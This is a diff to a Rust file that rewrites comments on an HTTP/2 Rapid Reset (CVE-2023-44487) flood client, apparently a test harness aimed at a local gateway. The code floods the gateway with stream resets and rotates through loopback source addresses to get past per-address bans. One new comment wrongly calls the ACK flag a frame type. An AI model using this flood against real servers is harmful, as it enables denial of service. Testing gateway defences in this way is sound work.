@@ -1,5 +1,5 @@
-//! A client that opens HTTP/2 streams and resets each at once, as fast as the gateway takes them (CVE-2023-44487). When it
-//! is sent away it comes again, from the next of many addresses.
+//! A client that opens HTTP/2 streams and resets each immediately, as fast as the gateway accepts them (CVE-2023-44487).
+//! When its connection is closed it reconnects, from the next of many addresses.
 
 use std::io::{self, Read as _, Write as _};
 use std::net::{Ipv4Addr, SocketAddr, TcpStream};
@@ -7,15 +7,15 @@ use std::time::{Duration, Instant};
 
 use socket2::{Domain, Socket, Type};
 
-/// That are taken, over as many connections as it takes.
+/// The number of accepted resets, over any number of connections.
 pub(crate) const RESETS: usize = 100_000;
-/// Streams that are written at once, and taken before there are more.
+/// Streams per batch, all accepted before the next batch.
 const BATCH: usize = 50;
-/// Where it comes from: each is sent away for a while, and none is the steady clients'.
+/// The client's addresses: each is refused for a while, and the load uses none of them.
 const ADDRESSES: usize = 100;
-/// A gateway that does not answer a ping for so long has enough.
+/// The time after which a gateway that does not answer a ping counts as closed.
 const ANSWERED: Duration = Duration::from_secs(5);
-/// A gateway that takes no more of them in this time has won.
+/// The time limit of the whole flood.
 const PATIENCE: Duration = Duration::from_secs(60);
 /// RFC 9113 §3.4, and empty SETTINGS.
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
@@ -23,7 +23,7 @@ const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const PING: u8 = 6;
 const GOAWAY: u8 = 7;
-/// Of a ping.
+/// The type of a ping frame.
 const ACK: u8 = 1;
 /// `END_STREAM` and `END_HEADERS`.
 const WHOLE: u8 = 5;
@@ -32,7 +32,7 @@ const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
 /// `:method: GET`, `:scheme: http`, `:path: /` by their numbers, `:authority` in letters (RFC 7541).
 const BLOCK: &[u8] = b"\x82\x86\x84\x01\x09127.0.0.1";
 
-/// What became of it.
+/// The result.
 pub(crate) struct Flooded {
     pub(crate) resets: usize,
     pub(crate) connections: usize,
@@ -45,20 +45,20 @@ impl Flooded {
     }
 }
 
-/// Sends them all, or until its patience ends.
+/// Sends all resets, or as many as the time limit allows.
 pub(crate) fn flood(gateway: SocketAddr) -> Flooded {
     let begin = Instant::now();
     let (mut resets, mut connections) = (0, 0);
     while resets < RESETS && begin.elapsed() < PATIENCE {
         let from = Ipv4Addr::new(127, 0, 2, 1 + (connections % ADDRESSES) as u8);
         connections += 1;
-        // However the connection ends: another one follows.
+        // However the connection ends, another one follows.
         let _ = flood_one(gateway, from, &mut resets);
     }
     Flooded { resets, connections, took: begin.elapsed() }
 }
 
-/// Until the gateway closes the connection, or says that it will.
+/// Sends until the gateway closes the connection or sends GOAWAY.
 fn flood_one(gateway: SocketAddr, from: Ipv4Addr, resets: &mut usize) -> io::Result<()> {
     let mut socket = connect(gateway, from)?;
     socket.set_nodelay(true)?;
@@ -90,7 +90,7 @@ fn connect(gateway: SocketAddr, from: Ipv4Addr) -> io::Result<TcpStream> {
     Ok(socket.into())
 }
 
-/// Whether the ping behind a batch is answered: all of it has been taken by then.
+/// Whether the ping after a batch is answered: the batch has been accepted by then.
 fn is_taken(socket: &mut TcpStream) -> io::Result<bool> {
     loop {
         let mut head = [0; 9];
@@ -100,7 +100,7 @@ fn is_taken(socket: &mut TcpStream) -> io::Result<bool> {
         match (head[3], head[4]) {
             (PING, ACK) => return Ok(true),
             (GOAWAY, _) => return Ok(false),
-            // What is said of the streams interests nobody here.
+            // Other frames do not matter here.
             _ => {}
         }
     }
